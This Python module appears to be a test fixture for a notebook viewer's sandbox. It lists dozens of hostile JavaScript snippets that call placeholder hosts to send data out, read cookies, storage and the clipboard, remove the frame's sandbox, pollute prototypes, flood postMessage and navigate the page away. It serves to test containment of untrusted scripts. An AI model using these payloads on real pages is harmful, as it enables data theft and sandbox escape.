"""What a stranger's scripts try where the reader has let them run. Tokens are those of `attacks`.

A script says what it got hold of in `stolen`, and that it ran in `ran`.
"""

from __future__ import annotations

from collections.abc import Mapping

_PEER = (
    "const p=new (self.RTCPeerConnection||self.webkitRTCPeerConnection)({iceServers:[{urls:`stun:STUN`},"
    "{urls:`turn:STUN?transport=tcp`,username:`u`,credential:`c`}]});p.createDataChannel(`x`);"
    "p.createOffer().then(o=>p.setLocalDescription(o));"
)
_DISARM = (
    "const no=()=>false;for(const x of [Element,Document,DocumentFragment]){for(const n of ['matches','closest','remove',"
    "'querySelectorAll','querySelector','removeChild'])if(x.prototype[n])x.prototype[n]=n=='querySelectorAll'?()=>[]:no}"
    "Node.prototype.removeChild=no;NodeList.prototype[Symbol.iterator]=Array.prototype[Symbol.iterator]=function*(){};"
    "Function.prototype.call=Function.prototype.apply=no;Object.defineProperty(Element,Symbol.hasInstance,{value:no});"
)

TOGETHER: Mapping[str, str] = {
    "js-fetch": "fetch('HIT');fetch('HIT',{mode:'no-cors',keepalive:true});fetch(new Request('HIT'))",
    "js-fetch-later": "fetchLater('HIT',{activateAfter:0})",
    "js-request": "const x=new XMLHttpRequest();x.open('GET','HIT');x.send();const y=new XMLHttpRequest();y.open('GET','HIT',false);y.send()",
    "js-beacon": "navigator.sendBeacon('HIT','x')",
    "js-websocket": "new WebSocket('WSHIT')",
    "js-socket-stream": "new WebSocketStream('WSHIT')",
    "js-event-source": "new EventSource('HIT')",
    "js-transport": "new WebTransport('https://STUN/js-transport')",
    "js-image": "new Image().src='HIT';const i=document.createElement('img');i.srcset='HIT 1x';document.body.append(i)",
    "js-audio": "new Audio('HIT').play().catch(()=>0)",
    "js-peer": _PEER,
    "js-worker": "new Worker(URL.createObjectURL(new Blob([`fetch('HIT');importScripts('HIT')`])))",
    "js-worker-url": "new Worker('HIT');new SharedWorker('HIT')",
    "js-worker-data": "new Worker(`data:text/javascript,fetch('HIT')`)",
    "js-service-worker": "navigator.serviceWorker.register('assets/app.js').then(()=>stolen.push('a service worker'),()=>0)",
    "js-import": "import('HIT').catch(()=>0);import('data:text/javascript,RUN').catch(()=>0)",
    "js-script-src": "const s=document.createElement('script');s.src='HIT';document.head.append(s)",
    "js-import-map": "const s=document.createElement('script');s.type='importmap';s.text='{\"imports\":{\"a\":\"HIT\"}}';document.head.append(s)",
    "js-speculation": "const s=document.createElement('script');s.type='speculationrules';s.text=JSON.stringify({prefetch:[{urls:"
    "['HIT'],eagerness:'immediate'}],prerender:[{urls:['HIT'],eagerness:'immediate'}]});document.head.append(s)",
    "js-audio-worklet": "new AudioContext().audioWorklet.addModule('HIT').catch(()=>0);CSS.paintWorklet.addModule('HIT').catch(()=>0)",
    "js-font": "new FontFace('s','url(HIT)').load().catch(()=>0)",
    "js-style": "const s=document.createElement('style');s.textContent='@import \"HIT\";*{background:url(HIT)}';document.head.append(s)",
    "js-style-sheet": "const s=new CSSStyleSheet();s.replaceSync('*{border-image:url(HIT)}');document.adoptedStyleSheets=[s]",
    "js-link": "for(const r of ['prefetch','preload','modulepreload','prerender','stylesheet','icon','preconnect','dns-prefetch'])"
    "{const l=document.createElement('link');l.rel=r;l.as='image';l.href='HIT';document.head.append(l)}",
    "js-markup": "document.body.insertAdjacentHTML('beforeend',`<img src=HIT onerror=RUN><link rel=prefetch href=HIT><video poster=HIT>`)",
    "js-write": "document.write(`<img src=HIT><script src=HIT><\\/script><link rel=preload as=image href=HIT>`)",
    "js-object": "const o=document.createElement('object');o.data='HIT';document.body.append(o);const e=document.createElement('embed');"
    "e.src='HIT';document.body.append(e)",
    "js-xslt": "const x=new XSLTProcessor();x.importStylesheet(new DOMParser().parseFromString(`<xsl:stylesheet version='1.0' "
    "xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:include href='HIT'/><xsl:template match='/'><xsl:copy-of "
    "select=\"document('HIT')\"/></xsl:template></xsl:stylesheet>`,'text/xml'));x.transformToFragment(document,document)",
    "js-window-open": "open('HIT');open('HIT','_top');document.open('HIT','_blank','');Window.prototype.open?.call(self,'HIT')",
    "js-form": "const f=document.createElement('form');f.action='HIT';f.method='post';f.target='_blank';document.body.append(f);f.submit()",
    "js-form-top": "const f=document.createElement('form');f.action='HIT';f.target='_top';document.body.append(f);f.requestSubmit()",
    "js-link-top": "for(const t of ['_top','_parent','_blank','x']){const a=document.createElement('a');a.href='HIT';a.target=t;a.ping='HIT';"
    "a.click()}",
    "js-download": "const a=document.createElement('a');a.href='data:text/html,x';a.download='evil.html';document.body.append(a);a.click()",
    "js-top": "top.location='HIT'",
    "js-parent": "parent.location.replace('HIT')",
    "js-parent-hash": "parent.location.hash='#/stranger'",
    "js-parent-script": "parent.location='javascript:RUN'",
    "js-parent-page": "stolen.push(parent.document.title);parent.document.title='stranger'",
    "js-parent-frame": "stolen.push(frameElement.outerHTML);frameElement.removeAttribute('sandbox')",
    "js-parent-storage": "stolen.push(parent.localStorage.secret);parent.localStorage.secret='stranger'",
    "js-storage": "stolen.push(localStorage.secret);localStorage.secret='stranger'",
    "js-session-storage": "stolen.push(sessionStorage.secret)",
    "js-cookie": "stolen.push(document.cookie);document.cookie='stranger=1'",
    "js-cookie-store": "cookieStore.getAll().then(all=>stolen.push(...all),()=>0)",
    "js-database": "indexedDB.open('stranger').onsuccess=()=>stolen.push('a database')",
    "js-cache": "caches.open('stranger').then(()=>stolen.push('a cache'),()=>0)",
    "js-files": "navigator.storage.getDirectory().then(()=>stolen.push('a folder'),()=>0)",
    "js-channel": "new BroadcastChannel('pdr').postMessage('stranger')",
    "js-domain": "document.domain='127.0.0.1'",
    "js-site-data": "fetch('data/manifest.js').then(r=>r.text()).then(t=>stolen.push(t.slice(0,50)),()=>0)",
    "js-site-script": "const s=document.createElement('script');s.src='data/manifest.js';self.pdr={add:(k,i,v)=>stolen.push(k)};document.head.append(s)",
    "js-site-file": "const x=new XMLHttpRequest();x.open('GET','index.html');x.onload=()=>stolen.push(x.response.slice(0,50));x.send()",
    "js-alert": "alert('js-alert')",
    "js-confirm": "confirm('js-confirm');prompt('js-prompt')",
    "js-print": "print()",
    "js-unload": "addEventListener('beforeunload',e=>{e.preventDefault();e.returnValue='x'});addEventListener('pagehide',()=>fetch('HIT',{keepalive:true}))",
    "js-fullscreen": "document.documentElement.requestFullscreen().then(()=>stolen.push('the screen'),()=>0)",
    "js-pointer-lock": "document.body.requestPointerLock();navigator.keyboard?.lock?.()",
    "js-permissions": "Notification.requestPermission();navigator.geolocation.getCurrentPosition(()=>stolen.push('the place'))",
    "js-devices": "navigator.mediaDevices.getUserMedia({video:true,audio:true}).then(()=>stolen.push('a camera'),()=>0)",
    "js-clipboard": "navigator.clipboard.readText().then(t=>stolen.push('the clipboard'),()=>0)",
    "js-credentials": "navigator.credentials.get({identity:{providers:[{configURL:'HIT',clientId:'x'}]}}).then(()=>stolen.push('an identity'),()=>0)",
    "js-payment": "new PaymentRequest([{supportedMethods:'HIT'}],{total:{label:'x',amount:{currency:'EUR',value:'1'}}}).show()",
    "js-share": "navigator.share({url:'HIT'}).catch(()=>0);navigator.registerProtocolHandler('web+x','HIT%s')",
    "js-message-types": "for(const m of [null,0,'','ready',[],{},{kind:null},{kind:{}},{kind:'show',html:'<b>'},{kind:'height'},{kind:'height',height:'9'},"
    "{kind:'height',height:NaN},{kind:'height',height:-1},{kind:'cell',index:{}},{kind:'place',top:'x'},{kind:'link'},{kind:'link',href:{}},"
    "{kind:'__proto__'},{kind:'constructor'},new Map([[1,2]]),new Error('x'),1n])parent.postMessage(m,'*')",
    "js-message-bounds": "for(const n of [1e99,Infinity,-Infinity,2**53])for(const k of ['height','cell','place'])"
    "parent.postMessage({kind:k,height:n,index:n,top:n},'*')",
    "js-message-links": "for(const href of ['javascript:RUN',' javascript:RUN','data:text/html,x','HIT','//HIT','x'.repeat(1e6)])"
    "parent.postMessage({kind:'link',href},'*')",
    "js-message-pollution": 'parent.postMessage(JSON.parse(\'{"kind":"height","__proto__":{"stranger":1},"constructor":1,"height":50}\'),\'*\')',
    "js-message-flood": "for(let i=0;i<2000;i++)parent.postMessage({kind:'ready'},'*')",
    "js-show-itself": "postMessage({kind:'show',html:'<div data-script=RUN></div>',theme:'x',hideCode:false},'*')",
    "js-evaluate": "new Function('RUN')();(0,eval)('RUN');setTimeout('RUN',0)",
    "js-globals": "self.name='stranger';Object.prototype.stranger=1;window.pdr={add(){}}",
}
"""They stand in one notebook, each in a cell of its own."""

ALONE: Mapping[str, str] = {
    "peer-in-frame": _DISARM
    + f"const i=document.createElement('iframe');i.srcdoc='<script>{_PEER}<'+'/script>';document.body.append(i)",
    "peer-in-javascript": _DISARM
    + f"const i=document.createElement('iframe');i.src='javascript:{_PEER}';document.body.append(i)",
    "peer-in-shadow": "const d=document.createElement('div');document.body.append(d);d.setHTMLUnsafe(`<p><template shadowrootmode=closed>"
    '<iframe srcdoc="<script>' + _PEER.replace("`", "'") + '<\\/script>"></iframe></template></p>`)',
    "peer-in-busy-page": f"const i=document.createElement('iframe');i.srcdoc='<script>{_PEER}<'+'/script>';document.body.append(i);"
    "const t=Date.now();while(Date.now()-t<700);",
    "peer-in-same-program": _DISARM
    + "const source=[...document.scripts].map(s=>s.textContent).sort((a,b)=>b.length-a.length)[0]||'';"
    "const i=document.createElement('iframe');i.srcdoc='<main></main><script>'+source+'<'+'/script>';document.body.append(i);"
    f"onmessage=()=>{{const w=i.contentWindow;w.postMessage({{kind:'plotly',source:`{_PEER.replace('`', chr(39))}`}},'*');"
    f"w.postMessage({{kind:'show',theme:'x',hideCode:false,html:'<div data-script=\"{_PEER}\"></div>'}},'*')}}",
    "peer-in-new-page": f"document.open();document.write(`<script>{_PEER.replace('`', chr(39))}<\\/script>`);document.close()",
    "peer-under-new-root": _DISARM + "document.replaceChild(document.createElement('html'),document.documentElement);"
    f"const i=document.createElement('iframe');i.srcdoc='<script>{_PEER}<'+'/script>';document.documentElement.append(i)",
    "socket-in-frame": _DISARM
    + "const i=document.createElement('iframe');i.srcdoc=`<script>fetch('HIT');new WebSocket('WSHIT');new Image().src='HIT'"
    "<\\/script><img src=HIT>`;document.body.append(i)",
    "blank-frame": _DISARM
    + "const i=document.createElement('iframe');document.body.append(i);stolen.push(i.contentWindow.RTCPeerConnection&&'a peer')",
    "handler-on-root": "document.documentElement.setAttribute('onclick','RUN');document.documentElement.click();history.replaceState(0,'','?x');"
    "history.pushState(0,'','#x');history.back();history.go(-3)",
    "leave-for-canary": "location='BELL'",
    "leave-by-replace": "location.replace('BELL')",
    "leave-by-link": "addEventListener('click',e=>e.stopImmediatePropagation(),true);const a=document.createElement('a');a.href='BELL';"
    "document.body.append(a);a.dispatchEvent(new MouseEvent('click'))",
    "leave-by-refresh": _DISARM
    + "const m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url=BELL';document.head.append(m)",
    "leave-by-form": "const f=document.createElement('form');f.action='BELL';document.body.append(f);HTMLFormElement.prototype.submit.call(f)",
    "leave-by-inner-frame": "const i=document.createElement('iframe');document.body.append(i);i.contentWindow.location='BELL'",
    "leave-for-data": "location=`data:text/html,<script>fetch('HIT')<\\/script><img src='HIT'>`",
    "leave-for-blob": "location=URL.createObjectURL(new Blob([`<script>fetch('HIT')<\\/script><img src='HIT'>`],{type:'text/html'}))",
    "leave-for-javascript": "location='javascript:`<img src=HIT>`'",
    "leave-for-neighbour": "location=NEIGHBOUR",
    "leave-for-site": "location='index.html'",
    "leave-for-viewer": "location='viewer-scripts.html?again'",
    "never-rest": "let n=0;setInterval(()=>parent.postMessage({kind:'height',height:n+=997},'*'),1);new ResizeObserver(()=>document.body.style.height="
    "innerHeight+99+'px').observe(document.body)",
    "steal-focus": "setInterval(()=>{focus();const i=document.createElement('input');document.body.append(i);i.focus()},50)",
}
"""Each has a notebook of its own, since it ends, leaves or takes over the page that it stands in."""
